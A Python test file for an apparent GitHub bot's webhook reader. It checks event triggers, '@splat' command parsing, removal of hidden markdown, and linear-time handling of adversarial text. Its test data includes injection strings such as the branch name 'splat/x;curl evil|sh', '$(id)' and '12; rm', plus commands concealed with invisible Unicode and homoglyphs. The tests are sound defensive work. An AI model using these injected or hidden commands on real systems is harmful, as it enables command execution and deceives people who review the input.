"""What a delivery asks, from its payload alone."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from healer.event import Command, Trigger, read_command, read_event, visible
from healer.outcome import Skipped
from healer.settings import load_settings
from tests.recorded_events import HEAD, MONA, SIGNATURE, damaged, delivery, every_case, name_of

SETTINGS = load_settings(environ={})


def read(case: str, text: bytes = b"", **changes: Any) -> Trigger | Skipped:
    return read_event(name_of(case), delivery(case, **changes), load_settings(text, environ={}))


def asked(case: str, text: bytes = b"", **changes: Any) -> Trigger:
    found = read(case, text, **changes)
    assert isinstance(found, Trigger), found
    return found


def refused(case: str, text: bytes = b"", **changes: Any) -> str:
    found = read(case, text, **changes)
    assert isinstance(found, Skipped), found
    return found.code


# --- recorded deliveries ---------------------------------------------------------------------------------------------

ASKED = {
    "issues_opened": "heal",
    "issues_opened_labeled_splat": "heal",
    "issues_labeled": "heal",
    "issues_labeled_by_reporter": "heal",
    "issues_reopened": "heal",
    "issue_comment_created": "retry",
    "issue_comment_by_stranger": "retry",
    "issue_comment_on_pull": "retry",
    "pull_request_review_comment_created": "retry",
    "workflow_run_failed": "ci-finished",
    "workflow_run_succeeded": "ci-finished",
    "check_suite_completed": "ci-finished",
    "status_failure": "ci-finished",
    "repository_dispatch": "heal",
    "repository_dispatch_deployed": "after",
    "deployment_status_production": "after",
    "schedule": "after",
    "workflow_dispatch": "retry",
}
REFUSED = {
    "issues_opened_labeled_bug": "other-label",
    "issues_opened_labeled_checkout": "other-label",
    "issues_opened_by_reporter": "no-label",
    "issues_unlabeled": "not-ours",
    "issue_comment_ordinary": "no-command",
    "issue_comment_edited": "edited",
    "pull_request_review_comment_fork": "not-ours",
    "workflow_run_fork": "fork",
    "workflow_run_default_branch": "not-ours",
    "workflow_run_of_splat": "not-ours",
    "deployment_status_preview": "not-ours",
    "deployment_status_pending": "not-ours",
}


def test_every_recorded_delivery_is_expected_here() -> None:
    assert sorted([*ASKED, *REFUSED]) == every_case()


@pytest.mark.parametrize("case", ASKED)
def test_what_is_asked(case: str) -> None:
    trigger = asked(case)
    assert trigger.ask == ASKED[case]
    assert trigger.repository == 501


@pytest.mark.parametrize("case", REFUSED)
def test_what_asks_nothing(case: str) -> None:
    assert refused(case) == REFUSED[case]


@pytest.mark.parametrize("name", ["Production \N{EN DASH} shop", "prod", "eu-prod", "PROD_2"])
def test_a_deploy_to_production_by_its_name(name: str) -> None:
    told = {"deployment__environment": name, "deployment__production_environment": False}
    assert asked("deployment_status_production", **told).ask == "after"


@pytest.mark.parametrize("name", ["non-prod", "preprod", "pre-production", "product-preview", "prod-like staging", ""])
def test_a_deploy_to_nothing_of_the_kind(name: str) -> None:
    told = {"deployment__environment": name, "deployment__production_environment": False}
    assert refused("deployment_status_production", **told) == "not-ours"
    passing = {"deployment__transient_environment": True}
    assert refused("deployment_status_production", **passing) == "not-ours"


def test_a_label_carries_who_what_and_the_text() -> None:
    trigger = asked("issues_labeled")
    assert (trigger.actor.id, trigger.actor.login, trigger.issue) == (MONA, "mona", 12)
    assert "AttributeError: 'NoneType'" in trigger.text
    assert (trigger.key, trigger.time) == ("issue:12:2026-11-21T09:30:00Z", "2026-11-21T09:30:00Z")


def test_opened_and_its_labels_are_one_delivery() -> None:
    keys = {asked(case).key for case in ("issues_opened", "issues_opened_labeled_splat")}
    assert len(keys) == 1
    assert refused("issues_opened_labeled_bug") == "other-label"


def test_of_two_trigger_labels_only_the_first_asks() -> None:
    labels = [{"name": "Auto-Fix"}, {"name": "SPLAT"}]
    assert asked("issues_labeled", issue__labels=labels, label={"name": "Splat"}).ask == "heal"
    assert refused("issues_labeled", issue__labels=labels, label={"name": "auto-fix"}) == "other-label"


def test_an_sdk_s_own_label_starts_nothing_on_its_issues() -> None:
    assert asked("issues_labeled_by_reporter").signature == SIGNATURE
    assert refused("issues_labeled_by_reporter", label={"name": "splat"}) == "other-label"


def test_labels_and_mention_are_configurable() -> None:
    own = b"gate: {labels: [bug], mention: '@fixer'}"
    assert asked("issues_opened_labeled_bug", own).ask == "heal"
    assert refused("issues_opened_labeled_splat", own) == "other-label"
    assert refused("issue_comment_created", own) == "no-command"
    assert asked("issue_comment_created", own, comment__body="@Fixer stop").ask == "stop"


def test_a_comment_carries_the_words_and_the_issue_s_text() -> None:
    trigger = asked("issue_comment_created")
    assert (trigger.words, trigger.comment, trigger.key) == ("try the empty cart", 3301, "comment:3301")
    assert "AttributeError" in trigger.text


def test_a_comment_on_a_pull_request_does_not_pass_for_one_on_an_issue() -> None:
    trigger = asked("issue_comment_on_pull")
    assert (trigger.issue, trigger.pull, trigger.text) == (0, 14, "")
    review = asked("pull_request_review_comment_created")
    assert (review.pull, review.review, review.key) == (14, True, "review:4401")


def test_what_was_edited_after_it_was_written_is_not_acted_on() -> None:
    assert refused("issue_comment_created", comment__updated_at="2026-11-21T09:40:09Z") == "edited"


def test_a_comment_counts_for_who_wrote_it_alone() -> None:
    assert refused("issue_comment_created", sender={"id": 9, "login": "other"}) == "other-writer"


def test_a_comment_that_carries_our_mark_is_never_a_command() -> None:
    assert refused("issue_comment_created", comment__body="@splat retry\n\n<!-- splat:note x -->") == "own-words"


def test_checks_name_branch_and_commit() -> None:
    for case in ("workflow_run_failed", "check_suite_completed", "status_failure"):
        trigger = asked(case)
        assert (trigger.branch, trigger.head, trigger.conclusion) == (f"splat/{SIGNATURE}", HEAD, "failure")
    assert asked("workflow_run_failed").workflow == ".github/workflows/ci.yml"


@pytest.mark.parametrize(
    "branch", ["splat/x;curl evil|sh", "splat/$(id)0123456789ab", "Splat/0123456789abcdef", "main"]
)
def test_no_other_branch_is_ours(branch: str) -> None:
    assert refused("workflow_run_failed", workflow_run__head_branch=branch) == "not-ours"
    assert refused("check_suite_completed", check_suite__head_branch=branch) == "not-ours"


def test_the_default_branch_s_checks_count_only_where_asked_for() -> None:
    trigger = asked("workflow_run_default_branch", b"ci_heal: true")
    assert trigger.default_branch
    assert trigger.branch == "main"


def test_a_dispatch_names_an_issue_in_either_spelling() -> None:
    assert asked("workflow_dispatch").words == "an unknown code means no discount"
    assert asked("workflow_dispatch", inputs={"issue": " #12"}).ask == "heal"
    assert asked("repository_dispatch", client_payload={"issue": "12", "hint": "x"}).ask == "retry"
    for payload in ({}, {"issue": "12; rm"}, {"issue": 0}, {"issue": True}, {"issue": "99999999999999"}):
        found = read("repository_dispatch", client_payload=payload)
        assert isinstance(found, Skipped)
        assert found.code in ("no-issue", "payload")


def test_a_dispatch_on_another_branch_is_refused() -> None:
    assert refused("workflow_dispatch", ref="refs/heads/feature") == "other-branch"


@pytest.mark.parametrize(
    "payload", [None, [], {}, {"action": "opened"}, {"action": 5}, {"action": "opened", "issue": []}]
)
def test_a_payload_that_is_none_is_passed_over(payload: Any) -> None:
    for name in {*map(name_of, every_case()), "push", ""}:
        assert isinstance(read_event(name, payload, SETTINGS), Skipped)


@settings(max_examples=150, deadline=None)
@given(case=st.sampled_from(every_case()), data=st.data())
def test_no_payload_raises(case: str, data: st.DataObject) -> None:
    assert isinstance(read_event(name_of(case), damaged(case, data), SETTINGS), Trigger | Skipped)


# --- commands --------------------------------------------------------------------------------------------------------

COMMANDS = {
    "@splat retry try the empty cart": Command("retry", "try the empty cart"),
    "@Splat: retry": Command("retry"),
    "@splat\tretry\thint": Command("retry", "hint"),
    "I looked.\n\n@splat retry.": Command("retry"),
    "> It is Mona's.\n\n@splat explain why": Command("explain", "why"),
    "<!-- of a template -->\n\n@splat stop": Command("stop"),
    "@splat stop this, please!": Command("stop"),
    "@splat merge": Command("merge"),
    "@splat merge.": Command("merge"),
    "@splat ignore": Command("ignore"),
    "@splat": Command("help"),
    "@splat frobnicate": Command("help", "frobnicate"),
    "@splat merge conflicts are ugly": Command("help", "merge"),
    "@splat merge\n\nbut only on Monday": Command("help", "merge"),
    "@splat retry so:\n\n```py\nx = 1  # <!-- shown -->\n```\n<!-- hidden -->\n> quoted\n\nand so": Command(
        "retry", "so:\n\n```py\nx = 1  # <!-- shown -->\n```\n\nand so"
    ),
}
NONE = [
    "no mention",
    "hello @splat retry",
    "a\n@splat retry",
    "@splatter retry",
    "@splat-bot retry",
    "> @splat retry",
    "- @splat retry",
    "`@splat retry`",
    "`a\n\n`@splat retry`",
    "```\n@splat retry\n```",
    "~~~~\n\n@splat retry\n\n~~~",
    "- ```\n\n  @splat retry\n  ```",
    "    @splat retry",
    "# @splat retry",
    "<!--\n\n@splat retry\n\n-->",
    "<!-- never ended\n\n@splat retry",
    "<details>\n\n@splat retry\n\n</details>",
    "<p hidden>\n\n@splat retry",
    "<?\n\n@splat retry\n\n?>",
    "[a]: /u '\n@splat retry\n'",
    "@sp\u200blat retry",
    "@splat re\u200btry",
    "@splat retry\u202e yrter",
    "@splat retry \U000e0041\U000e0042",
    "\ufeff@splat retry",
    "@ѕplat retry",  # noqa: RUF001 - the first s is Cyrillic
    "\uff20splat retry",  # a wide at sign
]


@pytest.mark.parametrize("text", COMMANDS)
def test_a_command_is_read(text: str) -> None:
    assert read_command(text, "@splat") == COMMANDS[text]
    assert read_command(text.replace("\n", "\r\n"), "@splat") == COMMANDS[text]


@pytest.mark.parametrize("text", NONE)
def test_what_only_looks_like_a_command_is_none(text: str) -> None:
    assert read_command(text, "@splat") is None


def test_hidden_characters_do_not_reach_the_words() -> None:
    assert read_command("@splat retry\n\nplain\u200b \U000e0041words\u202e", "@splat") == Command(
        "retry", "plain words"
    )


# --- what a reader sees ----------------------------------------------------------------------------------------------

SEEN = {
    "a <!-- b\nc --> d": "a  d",
    "<!-- -->\nTraceback": "Traceback",
    "<!-- -->\n\nTraceback": "Traceback",
    "<!-- never\n\nended": "",
    "in a paragraph <!-- never\nended": "in a paragraph <!-- never\nended",
    "[x]: /u '\nTraceback\n'\nseen": "seen",
    '<img\nalt="\nTraceback (most <recent>):\nE: x">\nhello': "\nhello",
    "  at <anonymous>:1:1\n  in <module>": "  at <anonymous>:1:1\n  in <module>",
    "<div>\n```\n\n<!-- hidden\n\nTraceback\n-->": "<div>\n```",
    '<details><summary>x</summary>\n\n```json\n{"a": "<!-- -->"}\n```\n\n</details>': (
        '<details><summary>x</summary>\n\n```json\n{"a": "<!-- -->"}\n```\n\n</details>'
    ),
    "<!DOCTYPE Traceback>\n\n<![CDATA[ x ]]>\n\nb": "b",
    "\x1b[1;31mTraceback\x1b[0m\x1b]0;title\x07 \x1b": "Traceback ",
    "> Traceback\n>   File": "> Traceback\n>   File",
}


@pytest.mark.parametrize("text", SEEN)
def test_only_what_is_seen_is_kept(text: str) -> None:
    assert visible(text) == SEEN[text]


HOSTILE = [
    "<a \"'",
    "<a ",
    "<!--",
    "@splat ",
    "`<a b",
    "<a '\n",
    '<a b="',
    "<a x\n",
    "[",
    "[a]: b\n",
    ">",
    "- ",
    "\n\n@splat a",
]


@pytest.mark.parametrize("part", HOSTILE)
def test_hostile_text_takes_linear_time(part: str) -> None:
    text = part * (65_000 // len(part))
    began = time.process_time()
    visible(text)
    read_command(f"@splat retry {text}", "@splat")
    read_command(f"{text}\n\n@splat retry", "@splat")
    assert time.process_time() - began < 8
